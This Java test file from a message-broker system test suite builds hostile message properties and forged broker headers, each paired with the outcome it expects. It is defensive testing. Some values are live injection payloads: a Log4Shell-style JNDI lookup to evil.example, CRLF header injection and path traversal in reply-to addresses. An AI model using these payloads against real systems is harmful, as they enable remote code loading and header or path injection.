package io.skirret.systemtests.badinput;

import static io.skirret.systemtests.badinput.Forged.RUNS;
import static io.skirret.systemtests.badinput.Forged.WAITS;
import static io.skirret.systemtests.badinput.Forged.row;

import java.time.Duration;
import java.util.ArrayList;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jspecify.annotations.Nullable;

/** Messages that are hostile in their properties, and in the headers that are the broker's own. */
final class HostileProperties {

    private HostileProperties() {}

    static List<Forged> contentType() {
        List<Forged> rows = new ArrayList<>();
        for (String refused : new @Nullable String[] {
            null,
            "",
            "application/x-python-serialize",
            "application/x-java-serialized-object",
            "application/x-yaml",
            "application/x-msgpack",
            "application/data",
            "text/plain",
            "application/json; charset=utf-16",
            "application/json+evil",
            "application/json\r\nX: y"
        }) {
            rows.add(row("content type " + refused, "refused-content-type").with(p -> p.contentType(refused)));
        }
        for (String taken : List.of(
                "APPLICATION/JSON", "application/json ", "application/json; charset=utf-8", "application/json;")) {
            rows.add(row("content type '" + taken + "'", RUNS).with(p -> p.contentType(taken)));
        }
        for (String refused : List.of("binary", "utf-16", "latin-1", "base64", "gzip", "x".repeat(255), "")) {
            rows.add(row("content encoding " + refused, "refused-content-encoding")
                    .with(p -> p.contentEncoding(refused)));
        }
        rows.add(row("no content encoding", RUNS).with(p -> p.contentEncoding(null)));
        rows.add(row("content encoding in capitals", RUNS).with(p -> p.contentEncoding("UTF-8")));
        return rows;
    }

    /** Headers in which the broker writes, or which it acts on. */
    static List<Forged> brokersOwn(String queue) {
        Map<String, Object> death = new HashMap<>();
        death.put("queue", queue);
        death.put("exchange", "");
        death.put("reason", "expired");
        death.put("count", 4L);
        death.put("time", new Date(0));
        death.put("routing-keys", List.of(queue));
        return List.of(
                row("forged x-death", RUNS).header("x-death", List.of(death)),
                row("x-death of a wrong type", RUNS).header("x-death", "expired"),
                row("forged x-death on its way through a delay", WAITS, RUNS)
                        .header("x-death", List.of(death))
                        .header("x-first-death-queue", queue)
                        .header("x-first-death-reason", "expired")
                        .header("x-first-death-exchange", "")
                        .header("eta", Duration.ofMillis(300)),
                row("forged x-death on its way through retries", "RETRIED", "RETRIED", "retries-exhausted")
                        .task("bad.fail")
                        .header("skirret_policy", "quick")
                        .header("x-death", List.of(death)),
                row("x-delivery-count that is text", RUNS).header("x-delivery-count", "many"),
                row("x-delivery-count below none", RUNS).header("x-delivery-count", -1),
                row("x-delivery-count beyond all", RUNS).header("x-delivery-count", Long.MAX_VALUE),
                row("x-acquired-count beyond all", RUNS).header("x-acquired-count", Long.MAX_VALUE),
                row("x-first-death-queue is a number", RUNS).header("x-first-death-queue", -1),
                row("CC to nowhere", RUNS).header("CC", List.of("no-such-queue-" + UUID.randomUUID())));
    }

    static List<Forged> properties() {
        List<Forged> rows = new ArrayList<>(List.of(
                row("priority 255", RUNS).with(p -> p.priority(255)),
                row("transient", RUNS).with(p -> p.deliveryMode(1)),
                row("transient, and a dead letter", "bad-json")
                        .with(p -> p.deliveryMode(1))
                        .body("x"),
                row("no delivery mode, and a dead letter", "bad-json")
                        .with(p -> p.deliveryMode(null))
                        .body("x"),
                row("time before all", "bad-json")
                        .with(p -> p.timestamp(new Date(-62_135_596_800_000L)))
                        .body("x"),
                row("time after all", "bad-json")
                        .with(p -> p.timestamp(new Date(Long.MAX_VALUE)))
                        .body("x"),
                row("type and app id with control characters", "bad-json")
                        .with(p -> p.type("a\r\nINJECTED").appId("\u001b[31m${jndi:ldap://evil.example/x}"))
                        .body("x"),
                row("message id of 255 bytes", "bad-json")
                        .with(p -> p.messageId("x".repeat(255)))
                        .body("x"),
                row("correlation id of 255 bytes, and a reply", RUNS)
                        .with(p -> p.correlationId("\u00e9".repeat(127))
                                .replyTo(UUID.randomUUID().toString()))));
        for (String address : List.of(
                "skirret",
                "skirret.delay.rung.000000000016ms",
                "amq.rabbitmq.reply-to.g1h2AA5yZXBseUA",
                "a/b#c\nd",
                "../../users",
                "x".repeat(255),
                " ")) {
            rows.add(row("reply to '" + address.strip() + "'", RUNS).with(p -> p.replyTo(address)));
        }
        return rows;
    }
}
